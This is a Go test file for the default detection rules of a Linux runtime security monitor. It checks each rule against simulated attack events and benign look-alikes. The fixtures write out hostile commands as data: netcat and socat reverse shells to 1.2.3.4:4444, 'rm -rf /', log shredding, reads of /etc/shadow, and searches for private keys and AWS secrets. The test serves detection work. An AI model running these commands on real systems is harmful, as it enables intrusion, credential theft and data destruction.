package policy

import (
	"testing"

	"github.com/vigil-dev/vigil/internal/event"
)

// rootProc is proc as uid 0.
func rootProc(exe string, args ...string) event.Process {
	p := proc(exe, args...)
	p.UID = 0
	return p
}

func wr(p event.Process, path string, flags ...string) *event.Event {
	return openEv(p, path, "write", append([]string{"O_WRONLY"}, flags...)...)
}

func rd(p event.Process, path string) *event.Event { return openEv(p, path, "read") }

func under(ev *event.Event, opts ...evOpt) *event.Event { return build(ev, opts) }

func file(k event.Kind, p event.Process, path, target string) *event.Event {
	return fileEv(k, p, event.File{Path: path, Target: target})
}

func sock(exe, family, typ string) *event.Event {
	return netEv(event.KindSocket, rootProc(exe), event.Net{Family: family, Type: typ})
}

func ptrace(exe, req string) *event.Event {
	return privEv(event.KindPtrace, rootProc(exe), event.Priv{Syscall: "ptrace", Request: req})
}

// TestDefaults runs every built-in rule against events that must match it
// and benign twins that must not, as MatchEvent (the kernel's part and the
// userspace part) decides.
func TestDefaults(t *testing.T) {
	rules, err := Defaults()
	if err != nil {
		t.Fatal(err)
	}
	p, err := Compile(rules)
	if err != nil {
		t.Fatal(err)
	}
	bash, dash := "/usr/bin/bash", "/usr/bin/dash"
	stdin, stdout := int64(0), int64(1)
	dpkgChild := []evOpt{parent(dash), ancestors("/usr/bin/dpkg", "/usr/bin/apt")}
	cases := map[string]struct{ match, benign []*event.Event }{
		"read-sensitive-file-untrusted": {
			match: []*event.Event{
				under(rd(rootProc("/usr/bin/cat", "cat", "/etc/shadow"), "/etc/shadow"), parent(bash)),
				rd(rootProc("/usr/bin/python3.11"), "/etc/ssh/ssh_host_ed25519_key"),
				rd(rootProc("/usr/bin/less"), "/etc/sudoers.d/90-cloud-init-users"),
				openEv(rootProc("/usr/bin/vim.basic"), "/etc/gshadow", "read_write", "O_RDWR"),
			},
			benign: []*event.Event{
				rd(rootProc("/usr/sbin/sshd"), "/etc/shadow"),
				rd(rootProc("/usr/lib/openssh/sshd-session"), "/etc/ssh/ssh_host_rsa_key"),
				rd(rootProc("/usr/sbin/unix_chkpwd"), "/etc/shadow"),
				rd(rootProc("/usr/bin/sudo"), "/etc/sudoers"),
				rd(rootProc("/usr/sbin/cron"), "/etc/shadow"),
				rd(rootProc("/usr/lib/systemd/systemd-executor"), "/etc/shadow"),
				openEv(rootProc("/usr/sbin/usermod"), "/etc/shadow", "read_write", "O_RDWR"),
				rd(rootProc("/usr/bin/cat"), "/etc/passwd"),
				rd(rootProc("/usr/bin/cat"), "/etc/ssh/ssh_host_rsa_key.pub"),
				wr(rootProc("/usr/bin/tee"), "/etc/shadow"), // a write, not a read
			},
		},
		"shell-spawned-by-server": {
			match: []*event.Event{
				execEv(proc(dash, "sh", "-c", "id"), parent("/usr/sbin/nginx")),
				execEv(proc(bash), parent("/usr/lib/postgresql/16/bin/postgres")),
				execEv(proc("/bin/sh"), parent("/usr/lib/jvm/java-17-openjdk-amd64/bin/java")),
				execEv(proc(dash), parent("/usr/sbin/php-fpm8.2")),
				execEv(proc(dash, "sh", "-c", "/usr/bin/rotatelogs x 86400; id"), parent("/usr/sbin/apache2")),
				execEv(proc(dash), parent("/usr/bin/node", "node", "/srv/app/server.js")),
			},
			benign: []*event.Event{
				execEv(proc(dash), parent("/usr/lib/postgresql/16/bin/pg_ctl")),
				execEv(proc(dash), parent("/usr/sbin/sshd")),
				execEv(proc("/usr/bin/id"), parent("/usr/sbin/nginx")),
				execEv(proc(dash, "sh", "-c", "node build.js"), parent("/usr/bin/node", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "build")),
				execEv(proc(dash, "sh", "-c", "/usr/bin/rotatelogs /var/log/apache2/access.%Y 86400"), parent("/usr/sbin/apache2")),
			},
		},
		"shell-spawned-by-python-web-server": {
			match: []*event.Event{
				execEv(proc(dash, "sh", "-c", "id"), parent("/usr/bin/python3.11", "python3", "/usr/bin/gunicorn", "app:app")),
				execEv(proc(bash), parent("/usr/local/bin/python3", "python3", "-m", "http.server")),
				execEv(proc(dash), parent("/usr/bin/python3", "python3", "manage.py", "runserver")),
			},
			benign: []*event.Event{
				execEv(proc(dash), parent("/usr/bin/python3", "python3", "/usr/bin/unattended-upgrade")),
				execEv(proc(dash), parent("/usr/bin/python3")),
				execEv(proc("/usr/bin/git"), parent("/usr/bin/python3", "python3", "/usr/bin/gunicorn")),
			},
		},
		"shell-spawned-by-non-shell": {
			match: []*event.Event{
				execEv(proc(dash, "sh", "-c", "id"), parent("/opt/app/server")),
				execEv(proc(bash), parent("/usr/local/bin/myservice")),
			},
			benign: []*event.Event{
				execEv(proc(bash), parent("/usr/lib/openssh/sshd-session")),
				execEv(proc(bash), parent("/usr/sbin/sshd")),
				execEv(proc(dash), parent("/usr/lib/systemd/systemd")),
				execEv(proc(dash), parent("/usr/bin/containerd-shim-runc-v2")),
				execEv(proc(dash), parent("/memfd:runc_cloned:/proc/self/exe (deleted)")),
				execEv(proc(dash), parent("/usr/bin/python3.11")),
				execEv(proc(dash), parent(dash)),
				execEv(proc(dash), parent("/usr/sbin/cron")),
				execEv(proc(dash), parent("/usr/bin/dpkg")),
				execEv(proc(dash), parent("/usr/sbin/nginx")), // shell-spawned-by-server's
				execEv(proc(dash), parent("/usr/lib/postgresql/15/bin/postgres")),
				execEv(proc("/usr/bin/id"), parent("/opt/app/server")),
			},
		},
		"ptrace-attach": {
			match:  []*event.Event{ptrace("/usr/bin/python3.11", "PTRACE_ATTACH"), ptrace("/tmp/inject", "PTRACE_POKETEXT"), ptrace("/usr/bin/gdb", "PTRACE_SEIZE")},
			benign: []*event.Event{ptrace("/usr/bin/gdb", "PTRACE_PEEKDATA"), ptrace("/usr/bin/strace", "PTRACE_CONT"), ptrace("/tmp/x", "PTRACE_TRACEME")},
		},
		"ptrace-traceme": {
			match:  []*event.Event{ptrace("/tmp/malware", "PTRACE_TRACEME"), ptrace("/usr/bin/python3", "PTRACE_TRACEME")},
			benign: []*event.Event{ptrace("/usr/bin/gdb", "PTRACE_TRACEME"), ptrace("/usr/bin/strace", "PTRACE_TRACEME"), ptrace("/tmp/malware", "PTRACE_ATTACH")},
		},
		"exec-from-memfd": {
			match:  []*event.Event{execEv(proc("/memfd:payload (deleted)")), execEv(proc("/memfd: (deleted)"))},
			benign: []*event.Event{execEv(proc("/memfd:runc_cloned:/proc/self/exe (deleted)")), execEv(proc("/usr/bin/ls"))},
		},
		"memfd-create-by-interpreter": {
			match: []*event.Event{
				privEv(event.KindMemfd, proc("/usr/bin/python3.11"), event.Priv{Syscall: "memfd_create", Name: ""}),
				privEv(event.KindMemfd, proc("/usr/bin/perl"), event.Priv{Syscall: "memfd_create", Name: "x"}),
				privEv(event.KindMemfd, proc(bash), event.Priv{Syscall: "memfd_create"}),
			},
			benign: []*event.Event{
				privEv(event.KindMemfd, proc("/usr/lib/systemd/systemd-journald"), event.Priv{Syscall: "memfd_create", Name: "journal-data"}),
				privEv(event.KindMemfd, proc("/usr/bin/node"), event.Priv{Syscall: "memfd_create"}),
			},
		},
		"exec-from-temp-dir": {
			match: []*event.Event{
				execEv(proc("/tmp/x")), execEv(proc("/dev/shm/.x")), execEv(proc("/var/tmp/kworker")), execEv(proc("/run/user/1000/a")),
			},
			benign: []*event.Event{execEv(proc("/usr/bin/ls")), execEv(proc("/tmpfs/x")), execEv(proc("/usr/bin/tmpreaper"))},
		},
		"link-to-sensitive-file": {
			match: []*event.Event{
				file(event.KindSymlink, proc("/usr/bin/ln"), "/tmp/s", "/etc/shadow"),
				file(event.KindLink, proc("/usr/bin/ln"), "/home/u/x", "/etc/sudoers"),
				file(event.KindSymlink, proc("/usr/bin/ln"), "/tmp/k", "/etc/sudoers.d/README"),
			},
			benign: []*event.Event{
				file(event.KindSymlink, rootProc("/usr/bin/update-alternatives"), "/etc/alternatives/editor", "/usr/bin/vim.basic"),
				file(event.KindLink, rootProc("/usr/sbin/useradd"), "/etc/shadow.lock", "/etc/shadow.1234"),
			},
		},
		"truncate-log-file": {
			match: []*event.Event{
				under(wr(rootProc(bash), "/var/log/auth.log", "O_TRUNC"), parent("/usr/sbin/sshd")),
				wr(rootProc("/usr/bin/truncate"), "/var/log/syslog", "O_TRUNC"),
				wr(rootProc("/usr/bin/cp"), "/var/log/nginx/access.log", "O_CREAT", "O_TRUNC"),
			},
			benign: []*event.Event{
				wr(rootProc("/usr/sbin/logrotate"), "/var/log/syslog", "O_TRUNC"),
				wr(rootProc(bash), "/var/log/x.log", "O_APPEND"),
				wr(rootProc("/usr/bin/kubelet"), "/var/log/pods/ns_pod/c/0.log.gz.tmp", "O_CREAT", "O_TRUNC"),
				wr(rootProc("/usr/bin/cp"), "/var/log/pods/ns_pod/c/0.log", "O_TRUNC"),
				wr(rootProc("/usr/lib/sysstat/sadc"), "/var/log/sysstat/sa04", "O_CREAT", "O_TRUNC"),
				under(wr(rootProc(dash), "/var/log/fontconfig.log", "O_CREAT", "O_TRUNC"), dpkgChild...),
				under(wr(rootProc(dash), "/var/log/x.log", "O_TRUNC"), parent(dash), ancestors(dash, "/usr/bin/python3"), func(ev *event.Event) {
					ev.Ancestors[2].Args = []string{"python3", "/usr/bin/unattended-upgrade"}
				}),
				wr(rootProc(bash), "/tmp/x.log", "O_TRUNC"),
			},
		},
		"delete-log-file": {
			match: []*event.Event{file(event.KindUnlink, rootProc("/usr/bin/rm"), "/var/log/auth.log", ""), file(event.KindUnlink, rootProc("/usr/bin/shred"), "/var/log/wtmp", "")},
			benign: []*event.Event{
				file(event.KindUnlink, rootProc("/usr/sbin/logrotate"), "/var/log/syslog.5.gz", ""),
				file(event.KindUnlink, rootProc("/usr/bin/journalctl"), "/var/log/journal/abc/system@1.journal", ""),
				file(event.KindUnlink, rootProc("/usr/bin/containerd"), "/var/log/containers/x.log", ""),
				file(event.KindUnlink, rootProc("/usr/bin/rm"), "/tmp/x.log", ""),
				under(file(event.KindUnlink, rootProc("/usr/bin/rm"), "/var/log/oldpkg.log", ""), dpkgChild...),
			},
		},
		"truncate-shell-history": {
			match: []*event.Event{
				wr(rootProc(bash), "/root/.bash_history", "O_TRUNC"),
				wr(proc("/usr/bin/truncate"), "/home/u/.zsh_history", "O_TRUNC"),
			},
			benign: []*event.Event{
				wr(proc(bash), "/home/u/.bash_history", "O_APPEND"),
				wr(proc(bash), "/home/u/.bash_history-12345.tmp", "O_CREAT", "O_TRUNC"),
				wr(proc(bash), "/home/u/.bashrc", "O_TRUNC"),
			},
		},
		"delete-shell-history": {
			match: []*event.Event{
				file(event.KindUnlink, proc("/usr/bin/rm"), "/home/u/.bash_history", ""),
				file(event.KindSymlink, proc("/usr/bin/ln"), "/root/.zsh_history", "/dev/null"),
			},
			benign: []*event.Event{
				file(event.KindUnlink, proc("/usr/bin/rm"), "/home/u/.bashrc", ""),
				fileEv(event.KindRename, proc(bash), event.File{Path: "/home/u/.bash_history-1.tmp", NewPath: "/home/u/.bash_history"}),
			},
		},
		"data-destruction-tool": {
			match: []*event.Event{
				execEv(rootProc("/usr/bin/shred", "shred", "-u", "/var/log/auth.log"), parent(bash)),
				execEv(rootProc("/usr/bin/wipe", "wipe", "-rf", "/home")),
			},
			benign: []*event.Event{
				execEv(rootProc("/usr/bin/shred", "shred", "-u", "/var/log/x.1"), parent("/usr/sbin/logrotate")),
				execEv(rootProc("/usr/bin/rm", "rm", "-f", "/tmp/x")),
			},
		},
		"recursive-delete-of-root": {
			match: []*event.Event{
				execEv(rootProc("/usr/bin/rm", "rm", "-rf", "/")),
				execEv(rootProc("/usr/bin/rm", "rm", "-r", "--no-preserve-root", "/")),
				execEv(rootProc("/usr/bin/rm", "rm", "-fr", "/bin", "/boot", "/dev", "/etc")),
				execEv(rootProc("/bin/rm", "rm", "--recursive", "/usr/")),
			},
			benign: []*event.Event{
				execEv(rootProc("/usr/bin/rm", "rm", "-rf", "/tmp/build")),
				execEv(rootProc("/usr/bin/rm", "rm", "-f", "/etc")),
				execEv(rootProc("/usr/bin/rm", "rm", "-rf", "/var/lib/apt/lists/lock")),
			},
		},
		"search-private-keys-or-passwords": {
			match: []*event.Event{
				execEv(proc("/usr/bin/find", "find", "/", "-name", "id_rsa")),
				execEv(proc("/usr/bin/grep", "grep", "-ri", "password", "/etc")),
				execEv(proc("/usr/bin/grep", "grep", "aws_secret_access_key", "/home/u/.aws/credentials")),
				execEv(proc("/usr/bin/plocate", "locate", ".kube/config")),
			},
			benign: []*event.Event{
				execEv(proc("/usr/bin/grep", "grep", "root", "/etc/passwd")),
				execEv(proc("/usr/bin/find", "find", "/var/log", "-name", "*.gz")),
				under(execEv(proc("/usr/bin/grep", "grep", "-q", "password", "/etc/mysql/debian.cnf")), dpkgChild...),
				execEv(proc("/usr/bin/cat", "cat", "id_rsa")),
			},
		},
		"reverse-shell": {
			match: []*event.Event{
				netEv(event.KindDup, proc(bash), event.Net{Family: "AF_INET", FD: 3, NewFD: &stdin}),
				netEv(event.KindDup, proc("/usr/bin/python3.11"), event.Net{Family: "AF_INET6", FD: 3, NewFD: &stdin}),
				netEv(event.KindDup, proc("/usr/bin/perl"), event.Net{Family: "AF_INET", FD: 3, NewFD: &stdin}),
			},
			benign: []*event.Event{
				netEv(event.KindDup, proc("/usr/sbin/nginx"), event.Net{Family: "AF_INET", FD: 3, NewFD: &stdin}),
				netEv(event.KindDup, proc("/usr/sbin/xinetd"), event.Net{Family: "AF_INET", FD: 5, NewFD: &stdin}),
				// echo hi >&3 with fd 3 a /dev/tcp connection.
				netEv(event.KindDup, proc(bash), event.Net{Family: "AF_INET", FD: 3, NewFD: &stdout}),
			},
		},
		"netcat-remote-exec": {
			match: []*event.Event{
				execEv(proc("/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "1.2.3.4", "4444")),
				execEv(proc("/usr/bin/ncat", "ncat", "--sh-exec", "bash -i", "-l", "4444")),
				execEv(proc("/usr/bin/nc.traditional", "nc", "-e/bin/sh", "1.2.3.4", "4444")),
			},
			benign: []*event.Event{
				execEv(proc("/usr/bin/nc.openbsd", "nc", "-zv", "db", "5432")),
				execEv(proc("/usr/bin/nc.openbsd", "nc", "-l", "8080")),
			},
		},
		"socat-remote-exec": {
			match: []*event.Event{
				execEv(proc("/usr/bin/socat", "socat", "TCP:1.2.3.4:4444", "EXEC:/bin/bash")),
				execEv(proc("/usr/bin/socat", "socat", "tcp-l:4444,fork", "system:bash -li,pty,stderr")),
			},
			benign: []*event.Event{execEv(proc("/usr/bin/socat", "socat", "TCP-LISTEN:80,fork", "TCP:backend:80"))},
		},
		"packet-socket-untrusted": {
			match: []*event.Event{sock("/tmp/sniffer", "AF_PACKET", "SOCK_RAW"), sock("/usr/bin/python3.11", "AF_PACKET", "SOCK_DGRAM")},
			benign: []*event.Event{
				sock("/usr/bin/tcpdump", "AF_PACKET", "SOCK_RAW"), sock("/usr/lib/systemd/systemd-networkd", "AF_PACKET", "SOCK_DGRAM"),
				sock("/usr/sbin/dhclient", "AF_PACKET", "SOCK_RAW"), sock("/usr/bin/curl", "AF_INET", "SOCK_STREAM"),
			},
		},
		"raw-socket-untrusted": {
			match: []*event.Event{sock("/usr/bin/python3.11", "AF_INET", "SOCK_RAW"), sock("/usr/bin/nmap", "AF_INET6", "SOCK_RAW")},
			benign: []*event.Event{
				sock("/usr/bin/ping", "AF_INET", "SOCK_RAW"), sock("/usr/bin/python3.11", "AF_NETLINK", "SOCK_RAW"),
				sock("/usr/bin/python3.11", "AF_INET", "SOCK_DGRAM"), sock("/usr/sbin/NetworkManager", "AF_INET6", "SOCK_RAW"),
			},
		},
		"kernel-module-load-untrusted": {
			match: []*event.Event{privEv(event.KindModule, rootProc("/tmp/loader"), event.Priv{Syscall: "finit_module", Name: "rk"})},
			benign: []*event.Event{
				privEv(event.KindModule, rootProc("/usr/bin/kmod", "modprobe", "overlay"), event.Priv{Syscall: "finit_module", Name: "overlay"}),
				privEv(event.KindModule, rootProc("/usr/bin/udevadm"), event.Priv{Syscall: "finit_module"}),
				privEv(event.KindModule, rootProc("/usr/lib/systemd/systemd-modules-load"), event.Priv{Syscall: "finit_module"}),
			},
		},
		"module-tool-executed": {
			match: []*event.Event{
				execEv(rootProc("/usr/bin/kmod", "insmod", "/tmp/rootkit.ko"), parent(bash)),
				execEv(rootProc("/usr/bin/kmod", "/sbin/modprobe", "evil"), parent("/usr/bin/sudo")),
				execEv(rootProc("/usr/bin/kmod", "rmmod", "auditmod"), parent(bash)),
			},
			benign: []*event.Event{
				execEv(rootProc("/usr/bin/kmod", "/sbin/modprobe", "-q", "--", "net-pf-16-proto-4"), ppid(2)),
				execEv(rootProc("/usr/bin/kmod", "lsmod"), parent(bash)),
				execEv(rootProc("/usr/bin/kmod", "modprobe", "overlay"), parent("/usr/bin/dockerd")),
				execEv(rootProc("/usr/bin/kmod", "modprobe", "-abq", "br_netfilter"), parent("/usr/lib/systemd/systemd")),
				execEv(rootProc("/usr/bin/kmod", "modprobe", "--show-depends", "ext4"), parent(bash)),
				under(execEv(rootProc("/usr/bin/kmod", "modprobe", "zfs")), dpkgChild...),
			},
		},
		"write-below-etc": {
			match: []*event.Event{
				wr(rootProc("/usr/bin/vim.basic"), "/etc/ssh/sshd_config"),
				under(wr(rootProc("/usr/bin/tee"), "/etc/sudoers.d/x", "O_TRUNC"), parent(bash)),
			},
			benign: []*event.Event{
				wr(rootProc("/usr/bin/dpkg"), "/etc/nginx/nginx.conf.dpkg-new"),
				wr(rootProc("/usr/sbin/useradd"), "/etc/passwd+"),
				wr(rootProc("/usr/sbin/ldconfig"), "/etc/ld.so.cache~"),
				under(wr(rootProc("/usr/bin/envsubst"), "/etc/nginx/conf.d/default.conf"), inContainer("3f4e5d6c7b8a")),
				under(wr(rootProc(dash), "/etc/resolv.conf.dhclient-new.1", "O_CREAT"), parent("/usr/sbin/dhclient")),
				under(wr(rootProc(dash), "/etc/resolv.conf"), parent(dash), ancestors("/usr/sbin/dhclient")),
				wr(rootProc("/usr/bin/python3", "python3", "/usr/bin/cloud-init", "init"), "/etc/hosts"),
				under(wr(rootProc("/usr/bin/cp"), "/etc/ssl/certs/x.pem"), dpkgChild...),
				wr(rootProc("/usr/lib/systemd/systemd-hostnamed"), "/etc/hostname"),
				rd(rootProc(bash), "/etc/hosts"),
			},
		},
		"write-below-binary-dir": {
			match: []*event.Event{
				wr(rootProc("/usr/bin/cp"), "/usr/bin/ls", "O_CREAT", "O_TRUNC"),
				wr(rootProc("/usr/bin/curl"), "/usr/lib/x86_64-linux-gnu/libpam.so.0"),
				under(wr(rootProc("/usr/bin/gcc"), "/usr/sbin/sshd"), inContainer("abc")),
				wr(rootProc("/usr/bin/python3.11"), "/usr/lib/python3/dist-packages/evil.py"),
			},
			benign: []*event.Event{
				wr(rootProc("/usr/bin/dpkg"), "/usr/bin/ls.dpkg-new"),
				wr(rootProc("/usr/bin/python3.11"), "/usr/lib/python3/dist-packages/foo/__pycache__/bar.cpython-311.pyc.140234"),
				wr(rootProc("/usr/bin/python3.11"), "/usr/lib/python3.11/__pycache__/abc.cpython-311.pyc"),
				under(wr(rootProc("/usr/bin/cp"), "/usr/lib/modules/6.1.0/updates/dkms/x.ko"), parent(bash, "bash", "/usr/sbin/dkms", "autoinstall")),
				under(wr(rootProc("/usr/sbin/gdk-pixbuf-query-loaders"), "/usr/lib/x86_64-linux-gnu/gdk-pixbuf-2.0/2.10.0/loaders.cache"), dpkgChild...),
				wr(rootProc("/usr/bin/kmod", "depmod", "-a"), "/usr/lib/modules/6.1.0/modules.dep.tmp"),
				wr(rootProc("/usr/bin/cp"), "/usr/local/bin/tool"),
				rd(rootProc("/usr/bin/cat"), "/usr/bin/ls"),
			},
		},
		"setuid-setgid-bit-set": {
			match: []*event.Event{
				fileEv(event.KindChmod, rootProc("/usr/bin/chmod", "chmod", "u+s", "/tmp/x"), event.File{Path: "/tmp/x", Mode: mode(04755)}),
				fileEv(event.KindChmod, rootProc("/usr/bin/python3.11"), event.File{Path: "/home/u/sh", Mode: mode(02755)}),
			},
			benign: []*event.Event{
				fileEv(event.KindChmod, rootProc("/usr/bin/chmod"), event.File{Path: "/tmp/x", Mode: mode(0755)}),
				fileEv(event.KindChmod, rootProc("/usr/bin/containerd"), event.File{Path: "/var/lib/containerd/x/usr/bin/passwd", Mode: mode(04755)}),
				fileEv(event.KindChmod, rootProc("/usr/bin/systemd-tmpfiles"), event.File{Path: "/var/log/journal", Mode: mode(02755)}),
				fileEv(event.KindChmod, rootProc("/usr/bin/perl", "perl", "/usr/bin/dpkg-statoverride", "--update", "--add"), event.File{Path: "/usr/bin/crontab", Mode: mode(02755)}),
				fileEv(event.KindChmod, rootProc("/usr/bin/kubelet"), event.File{Path: "/var/lib/kubelet/pods/x/volumes/v", Mode: mode(02775)}),
				fileEv(event.KindChmod, rootProc("/memfd:runc_cloned:/proc/self/exe (deleted)"), event.File{Path: "/x", Mode: mode(04755)}),
			},
		},
		"cron-job-written": {
			match: []*event.Event{
				under(wr(rootProc(bash), "/etc/cron.d/backdoor", "O_CREAT"), parent("/usr/sbin/sshd")),
				wr(proc("/usr/bin/crontab"), "/var/spool/cron/crontabs/tmp.X1", "O_CREAT", "O_EXCL"),
				wr(rootProc("/usr/bin/vim.basic"), "/etc/crontab"),
			},
			benign: []*event.Event{
				wr(rootProc("/usr/bin/dpkg"), "/etc/cron.daily/apt-compat.dpkg-new"),
				rd(rootProc("/usr/sbin/cron"), "/etc/crontab"),
				under(wr(rootProc("/usr/bin/cp"), "/etc/cron.d/sysstat"), dpkgChild...),
			},
		},
		"systemd-unit-written": {
			match: []*event.Event{
				wr(rootProc("/usr/bin/tee"), "/etc/systemd/system/evil.service"),
				wr(proc(bash), "/home/bob/.config/systemd/user/x.service", "O_CREAT"),
				wr(rootProc("/usr/bin/systemctl"), "/etc/systemd/system/nginx.service.d/.#override.conf1a2b"),
				wr(rootProc("/usr/bin/cp"), "/usr/lib/systemd/system/ssh.service"),
			},
			benign: []*event.Event{
				wr(rootProc("/usr/bin/dpkg"), "/usr/lib/systemd/system/nginx.service.dpkg-new"),
				wr(proc(bash), "/home/bob/.config/other/x"),
				wr(rootProc("/usr/bin/python3", "python3", "/usr/bin/cloud-init", "init"), "/etc/systemd/system/x.mount"),
				rd(rootProc("/usr/lib/systemd/systemd"), "/etc/systemd/system/x.service"),
				wr(rootProc("/usr/lib/snapd/snapd"), "/etc/systemd/system/snap-core.mount"),
			},
		},
		"persistence-file-moved-in": {
			match: []*event.Event{
				fileEv(event.KindRename, rootProc("/usr/bin/mv"), event.File{Path: "/tmp/evil", NewPath: "/etc/cron.d/evil"}),
				file(event.KindSymlink, rootProc("/usr/bin/ln"), "/etc/systemd/system/multi-user.target.wants/x.service", "/tmp/x.service"),
			},
			benign: []*event.Event{
				file(event.KindSymlink, rootProc("/usr/lib/systemd/systemd"), "/etc/systemd/system/multi-user.target.wants/nginx.service", "/usr/lib/systemd/system/nginx.service"),
				fileEv(event.KindRename, proc("/usr/bin/crontab"), event.File{Path: "/var/spool/cron/crontabs/tmp.X", NewPath: "/var/spool/cron/crontabs/u"}),
				fileEv(event.KindRename, rootProc("/usr/bin/dpkg"), event.File{Path: "/etc/cron.d/x.dpkg-new", NewPath: "/etc/cron.d/x"}),
				fileEv(event.KindRename, rootProc("/usr/bin/mv"), event.File{Path: "/tmp/a", NewPath: "/tmp/b"}),
			},
		},
		"ssh-authorized-keys-written": {
			match: []*event.Event{
				under(wr(rootProc(bash), "/root/.ssh/authorized_keys", "O_APPEND"), parent("/usr/sbin/sshd")),
				wr(proc("/usr/bin/tee"), "/home/u/.ssh/authorized_keys2"),
			},
			benign: []*event.Event{
				rd(rootProc("/usr/sbin/sshd"), "/root/.ssh/authorized_keys"),
				wr(rootProc("/usr/bin/google_guest_agent"), "/home/u/.ssh/authorized_keys"),
				wr(rootProc("/usr/bin/python3", "python3", "/usr/bin/cloud-init", "modules"), "/home/debian/.ssh/authorized_keys"),
			},
		},
		"release-agent-written": {
			match:  []*event.Event{wr(rootProc(bash), "/tmp/cgrp/release_agent")},
			benign: []*event.Event{wr(rootProc("/usr/lib/systemd/systemd"), "/sys/fs/cgroup/systemd/release_agent"), rd(rootProc(bash), "/tmp/cgrp/release_agent")},
		},
		"cgroup-v1-mount": {
			match: []*event.Event{fileEv(event.KindMount, rootProc("/usr/bin/mount"), event.File{Path: "/tmp/cgrp", FSType: "cgroup", Source: "cgroup"})},
			benign: []*event.Event{
				fileEv(event.KindMount, rootProc("/usr/bin/runc"), event.File{Path: "/sys/fs/cgroup/cpu", FSType: "cgroup"}),
				fileEv(event.KindMount, rootProc("/memfd:runc_cloned:/proc/self/exe (deleted)"), event.File{Path: "/sys/fs/cgroup/memory", FSType: "cgroup"}),
				fileEv(event.KindMount, rootProc("/usr/bin/mount"), event.File{Path: "/tmp/cgrp", FSType: "cgroup2"}),
				fileEv(event.KindMount, rootProc("/usr/lib/systemd/systemd"), event.File{Path: "/sys/fs/cgroup/systemd", FSType: "cgroup"}),
			},
		},
	}
	for _, r := range rules {
		if _, ok := cases[r.Name]; !ok {
			t.Errorf("built-in rule %s has no test case", r.Name)
		}
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			bit := bitOf(t, p, name)
			if len(c.match) == 0 || len(c.benign) == 0 {
				t.Fatal("needs both matching and benign events")
			}
			for _, ev := range c.match {
				if p.MatchEvent(ev)&bit == 0 {
					t.Errorf("no match: %s", describe(ev))
				}
				// The kernel's verdict, confirmed, agrees.
				if !hasRule(p.Evaluate(ev, p.KernelMask(ev)), name) {
					t.Errorf("Evaluate(KernelMask) misses %s", describe(ev))
				}
			}
			for _, ev := range c.benign {
				if p.MatchEvent(ev)&bit != 0 {
					t.Errorf("benign event matched: %s", describe(ev))
				}
			}
		})
	}
	if p.ConditionErrors() != 0 {
		t.Errorf("%d condition errors", p.ConditionErrors())
	}
}

func hasRule(rules []*Rule, name string) bool {
	for _, r := range rules {
		if r.Name == name {
			return true
		}
	}
	return false
}

func describe(ev *event.Event) string {
	s := string(ev.Kind) + " by " + ev.Process.Exe
	if len(ev.Process.Args) > 1 {
		s += " " + stringsJoin(ev.Process.Args[1:])
	}
	if len(ev.Ancestors) > 0 {
		s += " (parent " + ev.Ancestors[0].Exe + ")"
	}
	switch {
	case ev.File != nil:
		s += " " + ev.File.Path + " " + ev.File.NewPath + ev.File.Target + " " + ev.File.Access + " " + stringsJoin(ev.File.Flags)
	case ev.Net != nil:
		s += " " + ev.Net.Family + " " + ev.Net.Type
	case ev.Priv != nil:
		s += " " + ev.Priv.Request + ev.Priv.Cmd
	}
	return s
}

func stringsJoin(s []string) string {
	out := ""
	for i, x := range s {
		if i > 0 {
			out += " "
		}
		out += x
	}
	return out
}
